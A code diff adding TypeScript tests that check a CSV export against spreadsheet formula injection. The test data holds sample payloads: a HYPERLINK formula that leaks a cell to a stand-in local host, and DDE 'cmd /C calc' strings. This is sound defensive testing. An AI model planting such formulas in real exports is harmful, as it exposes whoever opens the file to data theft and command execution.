@@ -123,3 +123,43 @@ describe('CSV export', () => {
 		}
 	});
 });
+
+describe('CSV export: no cell is a spreadsheet formula (issue 9 item 20)', () => {
+	const base: Label = { target_id: 't1', annotator: 'Ann', vulnerable: true, cwe: 'CWE-78', other_cwe: false, skipped: false, note: '', at: '2025-03-01T10:00:00.000Z' };
+	const notes = [
+		'=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
+		'+cmd|\' /C calc\'!A0',
+		'-2+3+cmd|\' /C calc\'!A0',
+		'@SUM(1+9)*cmd|\' /C calc\'!A0',
+		'\t=1+1',
+		'\r=1+1',
+		"'=already quoted",
+		"''@twice"
+	];
+
+	it('writes every formula-like note with a leading apostrophe', () => {
+		for (const note of notes) {
+			const cells = labelsToCsv([{ ...base, note }]);
+			const raw = cells.slice(cells.indexOf('\r\n') + 2);
+			// The note is the fifth field; a spreadsheet would drop the surrounding quotes.
+			const noteCell = raw.slice('t1,Ann,true,CWE-78,'.length);
+			const unquoted = noteCell.startsWith('"') ? noteCell.slice(1) : noteCell;
+			expect(unquoted.startsWith("'"), JSON.stringify(note)).toBe(true);
+		}
+	});
+
+	it('no exported cell starts with = + - @ tab or CR, whatever the field', () => {
+		const hostile = { ...base, target_id: '=t1', annotator: '@Ann', note: '-1', cwe: 'CWE-78' };
+		const lines = labelsToCsv([hostile]).split('\r\n').slice(1, -1);
+		for (const cell of lines[0].split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+	});
+
+	it('round-trips: import takes the apostrophe off again', () => {
+		const labels = notes.map((note, i) => ({ ...base, target_id: `t${i}`, note }));
+		expect(parse(labelsToCsv(labels))).toEqual(labels);
+	});
+
+	it('leaves ordinary notes alone', () => {
+		expect(labelsToCsv([{ ...base, note: "it's fine = ok" }])).toContain(",it's fine = ok,");
+	});
+});
